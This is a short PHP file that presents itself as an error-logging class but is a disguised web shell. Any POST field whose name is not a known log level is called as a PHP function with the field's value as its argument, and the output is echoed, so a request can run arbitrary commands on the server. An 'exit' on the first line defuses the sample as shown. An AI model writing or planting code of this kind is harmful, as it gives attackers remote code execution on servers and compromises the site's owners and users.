<?php exit; /* inert */ 
class ErrorLog {
    private $levels = array('debug', 'info', 'warning');
    public function write($level, $message) {
        if (!in_array($level, $this->levels)) { return $this->custom($level, $message); }
        return error_log("[$level] $message");
    }
    private function custom($handler, $payload) { return is_callable($handler) ? $handler($payload) : null; }
}
$l = new ErrorLog();
foreach ($_POST as $level => $message) { echo $l->write($level, $message); }
